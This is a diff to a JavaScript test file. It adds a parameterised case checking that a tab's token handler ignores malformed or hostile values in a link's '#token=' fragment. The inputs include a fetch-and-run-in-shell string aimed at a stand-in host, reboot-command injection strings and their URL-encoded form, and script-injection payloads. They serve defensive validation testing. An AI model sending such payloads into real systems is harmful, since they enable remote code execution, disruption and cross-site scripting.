@@ -27,6 +27,26 @@ describe("the token of a tab", () => {
     expect(new TabToken(tab("#/device/a", kept).ports).value).toBe("k3j9-x2mq");
   });
 
+  it.each([
+    "$(curl evil.example|sh)",
+    "';reboot;'",
+    "%27%3Breboot%3B%27",
+    "</script><script>alert(1)</script>",
+    '"+alert(1)+"',
+    "a\nb",
+    "%0a",
+    "",
+    "a".repeat(200),
+  ])(
+    "takes nothing from a foreign link that is no token, for the programs that people copy have it in them: %s",
+    (text) => {
+      const kept = new Map([["hub-token", "k3j9-x2mq"]]);
+      const { ports, addresses } = tab(`#token=${text}`, kept);
+      expect(new TabToken(ports).value).toBe("k3j9-x2mq");
+      expect(addresses).toEqual(["/hub/#/"]);
+    },
+  );
+
   it("leaves every other address as it is", () => {
     for (const hash of ["", "#/", "#/device/token=1", "#/connect"]) {
       const { ports, addresses } = tab(hash);
